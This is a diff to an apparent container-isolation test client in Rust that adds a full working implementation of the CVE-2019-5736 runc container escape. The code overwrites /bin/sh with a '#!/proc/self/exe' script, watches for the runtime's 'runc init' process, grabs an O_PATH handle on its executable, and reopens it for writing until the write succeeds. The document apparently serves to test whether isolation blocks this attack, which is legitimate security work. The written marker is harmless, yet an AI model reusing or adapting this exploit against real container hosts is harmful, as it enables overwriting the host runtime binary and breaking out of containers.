@@ -19,6 +19,20 @@
 //! keyring for it (found: it worked).
 //! `eci-test-client perf -` opens a CPU-wide cycles counter on CPU 0 for all
 //! tasks (the whole VM).
+//! `eci-test-client runtime-exe SIZE` is the CVE-2019-5736 pattern, run as a
+//! container's first process: it replaces /bin/sh with `#!/proc/self/exe`
+//! (so a `docker exec` of /bin/sh makes the runtime execute itself inside
+//! the container; when /bin/sh is not writable the script goes to
+//! /tmp/runtime-exe-sh instead), prints `runtime-exe: ready: exec PATH`,
+//! then watches the container's
+//! pid namespace for the runtime (a process whose command line is
+//! `runc init` or whose executable is SIZE bytes long, the size of the
+//! VM's runc), takes an O_PATH handle on its `/proc/<pid>/exe`, re-opens
+//! that handle for writing through `/proc/self/fd/<n>` until the open stops
+//! failing with ETXTBSY (the runtime has exited) and writes a marker at
+//! offset 0. It reports each step on `runtime-exe:` lines and ends with one
+//! `runtime-exe: result ...` line (exit 0: the marker was written; 13: a
+//! step was refused; 3: no runtime process was seen).
 //! It first prints `pid=<pid>` as the VM sees it (from /proc/self, which
 //! resolves in the proc mount's pid namespace even inside a new one).
 //! Exit 0: it worked. Exit 13: EPERM/EACCES (denied). Exit 1: other error.
@@ -38,6 +52,9 @@ fn main() -> ExitCode {
     };
     if let Ok(pid) = std::fs::read_link("/proc/self") {
         println!("pid={}", pid.display());
+    }
+    if mode == "runtime-exe" {
+        return runtime_exe::attack(path);
     }
     let result = match mode.as_str() {
         "open" => std::fs::File::open(path).map(|_| ()),
@@ -254,4 +271,316 @@ fn open_cpu_counter() -> std::io::Result<()> {
     // SAFETY: our own new fd.
     unsafe { libc::close(fd as i32) };
     Ok(())
+}
+
+/// The CVE-2019-5736 pattern: overwrite the runtime's executable from inside
+/// the container while the runtime runs there.
+mod runtime_exe {
+    use std::{
+        collections::BTreeMap,
+        io::Write as _,
+        os::{
+            fd::{AsRawFd, FromRawFd, OwnedFd},
+            unix::fs::{FileExt, MetadataExt, OpenOptionsExt, PermissionsExt},
+        },
+        process::ExitCode,
+        time::{Duration, Instant},
+    };
+
+    const MARKER: &[u8] = b"#!/bin/sh\necho eci-runtime-overwritten\n";
+    /// How long to watch for the runtime after `ready`.
+    const WATCH: Duration = Duration::from_secs(240);
+    /// How long to keep re-opening for writing while the runtime runs.
+    const REOPEN: Duration = Duration::from_secs(60);
+
+    fn say(line: &str) {
+        println!("runtime-exe: {line}");
+        let _ = std::io::stdout().flush();
+    }
+
+    /// `EACCES (Permission denied)`.
+    fn errno(err: &std::io::Error) -> String {
+        let name = match err.raw_os_error() {
+            Some(libc::EPERM) => "EPERM",
+            Some(libc::EACCES) => "EACCES",
+            Some(libc::EROFS) => "EROFS",
+            Some(libc::ETXTBSY) => "ETXTBSY",
+            Some(libc::ENOENT) => "ENOENT",
+            Some(libc::ESRCH) => "ESRCH",
+            Some(libc::EINVAL) => "EINVAL",
+            Some(libc::EBADF) => "EBADF",
+            Some(libc::ELOOP) => "ELOOP",
+            Some(n) => return format!("errno {n} ({err})"),
+            None => return err.to_string(),
+        };
+        let text = err.to_string();
+        let text = text.split(" (os error").next().unwrap_or(&text).to_owned();
+        format!("{name} ({text})")
+    }
+
+    fn is_refusal(err: &std::io::Error) -> bool {
+        matches!(
+            err.raw_os_error(),
+            Some(libc::EPERM | libc::EACCES | libc::EROFS | libc::ETXTBSY)
+        )
+    }
+
+    /// Where the script goes when /bin/sh cannot be replaced: a path the
+    /// container's root can write whatever its ids (/tmp is 1777).
+    const FALLBACK_SCRIPT: &str = "/tmp/runtime-exe-sh";
+
+    /// The exploit's first step: `path` becomes a script whose interpreter
+    /// is the executable of whoever executes it.
+    fn plant_script(path: &str) -> std::io::Result<()> {
+        let _ = std::fs::remove_file(path);
+        std::fs::write(path, "#!/proc/self/exe\n")?;
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))
+    }
+
+    /// `open(path, O_PATH)`.
+    fn open_path(path: &str) -> std::io::Result<OwnedFd> {
+        let path = super::cstring(path)?;
+        // SAFETY: a NUL-terminated path; the new fd is owned below.
+        let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+        if fd < 0 {
+            return Err(std::io::Error::last_os_error());
+        }
+        // SAFETY: a fresh fd of our own.
+        Ok(unsafe { OwnedFd::from_raw_fd(fd) })
+    }
+
+    fn cmdline(pid: &str) -> String {
+        std::fs::read(format!("/proc/{pid}/cmdline"))
+            .map(|raw| {
+                raw.split(|&b| b == 0)
+                    .filter(|a| !a.is_empty())
+                    .map(|a| String::from_utf8_lossy(a).into_owned())
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            })
+            .unwrap_or_default()
+    }
+
+    /// `runc init`, `/usr/sbin/runc init`, `/tmp/.../runc-writable init`.
+    fn looks_like_runc_init(cmdline: &str) -> bool {
+        let mut words = cmdline.split(' ');
+        words
+            .next()
+            .and_then(|w| w.rsplit('/').next())
+            .is_some_and(|name| name.starts_with("runc"))
+            && words.next() == Some("init")
+    }
+
+    /// What the handle points at: the link's text, the inode, whether its
+    /// mount is read-only, and its seals (a memfd's).
+    fn describe(pid: &str, handle: &OwnedFd) -> String {
+        let link = std::fs::read_link(format!("/proc/{pid}/exe"))
+            .map(|l| l.display().to_string())
+            .unwrap_or_else(|e| format!("unreadable: {}", errno(&e)));
+        let by_fd = format!("/proc/self/fd/{}", handle.as_raw_fd());
+        let inode = std::fs::metadata(&by_fd)
+            .map(|m| {
+                format!(
+                    "size {} mode {:o} uid {} dev {:#x} ino {}",
+                    m.size(),
+                    m.mode(),
+                    m.uid(),
+                    m.dev(),
+                    m.ino()
+                )
+            })
+            .unwrap_or_else(|e| format!("stat: {}", errno(&e)));
+        let read_only_mount = {
+            let mut stat = std::mem::MaybeUninit::<libc::statvfs>::zeroed();
+            // SAFETY: fstatvfs on our own fd into a zeroed struct.
+            if unsafe { libc::fstatvfs(handle.as_raw_fd(), stat.as_mut_ptr()) } == 0 {
+                // SAFETY: filled by the successful call.
+                let flags = unsafe { stat.assume_init() }.f_flag;
+                if flags & libc::ST_RDONLY != 0 {
+                    "yes".to_owned()
+                } else {
+                    "no".to_owned()
+                }
+            } else {
+                format!("unknown: {}", errno(&std::io::Error::last_os_error()))
+            }
+        };
+        let seals = match std::fs::File::open(&by_fd) {
+            // SAFETY: F_GET_SEALS on our own fd; no memory is passed.
+            Ok(f) => match unsafe { libc::fcntl(f.as_raw_fd(), libc::F_GET_SEALS) } {
+                s if s >= 0 => format!("{s:#x}"),
+                _ => format!("none: {}", errno(&std::io::Error::last_os_error())),
+            },
+            Err(e) => format!("unknown (read-only open: {})", errno(&e)),
+        };
+        format!("exe \"{link}\", {inode}, read-only mount: {read_only_mount}, seals: {seals}")
+    }
+
+    /// The exploit's last step: re-open the handle for writing until the
+    /// runtime stops executing it, then write the marker.
+    fn overwrite(handle: &OwnedFd) -> (String, Result<(), std::io::Error>) {
+        let by_fd = format!("/proc/self/fd/{}", handle.as_raw_fd());
+        let deadline = Instant::now() + REOPEN;
+        let mut busy = 0u64;
+        let opened = loop {
+            match std::fs::OpenOptions::new()
+                .write(true)
+                .custom_flags(libc::O_CLOEXEC)
+                .open(&by_fd)
+            {
+                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
+                    busy += 1;
+                    std::thread::sleep(Duration::from_millis(1));
+                }
+                other => break other,
+            }
+        };
+        let open_text = match &opened {
+            Ok(_) => "ok".to_owned(),
+            Err(e) => errno(e),
+        };
+        say(&format!(
+            "open for write: ETXTBSY {busy} times, then {open_text}"
+        ));
+        let summary = format!("open for write {open_text} after ETXTBSY x{busy}");
+        match opened {
+            Err(e) => (summary, Err(e)),
+            Ok(file) => {
+                let written = file.write_all_at(MARKER, 0);
+                let write_text = match &written {
+                    Ok(()) => "ok".to_owned(),
+                    Err(e) => errno(e),
+                };
+                say(&format!("write of the marker: {write_text}"));
+                (format!("write {write_text} ({summary})"), written)
+            }
+        }
+    }
+
+    pub fn attack(runc_size: &str) -> ExitCode {
+        let Ok(runc_size) = runc_size.parse::<u64>() else {
+            say("result error: SIZE is not a number");
+            return ExitCode::from(2);
+        };
+        let target = match plant_script("/bin/sh") {
+            Ok(()) => "/bin/sh",
+            Err(e) => {
+                say(&format!(
+                    "/bin/sh not replaced: {}; the script goes to {FALLBACK_SCRIPT}",
+                    errno(&e)
+                ));
+                if let Err(e) = plant_script(FALLBACK_SCRIPT) {
+                    say(&format!(
+                        "result error: {FALLBACK_SCRIPT} not written either: {}",
+                        errno(&e)
+                    ));
+                    return ExitCode::from(1);
+                }
+                FALLBACK_SCRIPT
+            }
+        };
+        say(&format!("{target} is now #!/proc/self/exe"));
+        let own = std::fs::read_link("/proc/self")
+            .map(|p| p.display().to_string())
+            .unwrap_or_default();
+        say(&format!("ready: exec {target}"));
+        // pid -> (command line, O_PATH result) of every process seen.
+        let mut seen: BTreeMap<String, (String, String)> = BTreeMap::new();
+        let mut saw_runtime: Option<String> = None;
+        // The last refusal of an O_PATH handle on a runtime process.
+        let mut runtime_refusal: Option<String> = None;
+        let deadline = Instant::now() + WATCH;
+        while Instant::now() < deadline {
+            let Ok(entries) = std::fs::read_dir("/proc") else {
+                say("result error: /proc is unreadable");
+                return ExitCode::from(1);
+            };
+            for entry in entries.flatten() {
+                let pid = entry.file_name().to_string_lossy().into_owned();
+                if pid == own || !pid.bytes().all(|b| b.is_ascii_digit()) {
+                    continue;
+                }
+                let line = cmdline(&pid);
+                let handle = open_path(&format!("/proc/{pid}/exe"));
+                let size = handle.as_ref().ok().and_then(|h| {
+                    std::fs::metadata(format!("/proc/self/fd/{}", h.as_raw_fd()))
+                        .ok()
+                        .map(|m| m.size())
+                });
+                let is_runtime = looks_like_runc_init(&line) || size == Some(runc_size);
+                let handle_text = match &handle {
+                    Ok(_) => format!("O_PATH ok, size {}", size.unwrap_or(0)),
+                    Err(e) => format!("O_PATH {}", errno(e)),
+                };
+                let known = seen.get(&pid);
+                if known.is_none_or(|(l, h)| *l != line || *h != handle_text) {
+                    say(&format!(
+                        "seen pid {pid} cmdline \"{line}\" exe: {handle_text}{}",
+                        if is_runtime { " (the runtime)" } else { "" }
+                    ));
+                    seen.insert(pid.clone(), (line.clone(), handle_text.clone()));
+                }
+                if !is_runtime {
+                    continue;
+                }
+                if saw_runtime.is_none() {
+                    saw_runtime = Some(format!("pid {pid} \"{line}\""));
+                }
+                // A handle on the runtime's executable (runc init itself is
+                // not dumpable; the runtime re-executed through the script
+                // is).
+                let handle = match handle {
+                    Ok(handle) => handle,
+                    Err(e) => {
+                        runtime_refusal = Some(format!(
+                            "O_PATH on /proc/{pid}/exe of \"{line}\": {}",
+                            errno(&e)
+                        ));
+                        continue;
+                    }
+                };
+                if size != Some(runc_size) {
+                    continue;
+                }
+                let what = describe(&pid, &handle);
+                say(&format!("handle on pid {pid}: {what}"));
+                let (summary, written) = overwrite(&handle);
+                let runtime = saw_runtime.as_deref().unwrap_or("");
+                return match written {
+                    Ok(()) => {
+                        say(&format!(
+                            "result written: {summary}; runtime {runtime}; handle on its {what}"
+                        ));
+                        ExitCode::SUCCESS
+                    }
+                    Err(e) => {
+                        say(&format!(
+                            "result blocked: {summary}; runtime {runtime}; handle on its {what}"
+                        ));
+                        ExitCode::from(if is_refusal(&e) { 13 } else { 1 })
+                    }
+                };
+            }
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        match saw_runtime {
+            Some(runtime) => {
+                let why = runtime_refusal.unwrap_or_else(|| {
+                    "its executable was never open to O_PATH while it ran".to_owned()
+                });
+                say(&format!(
+                    "result blocked: no handle on the runtime's exe ({why}); runtime {runtime}"
+                ));
+                ExitCode::from(13)
+            }
+            None => {
+                say(&format!(
+                    "result none-seen: no runtime process in {}s ({} other processes seen)",
+                    WATCH.as_secs(),
+                    seen.len()
+                ));
+                ExitCode::from(3)
+            }
+        }
+    }
 }
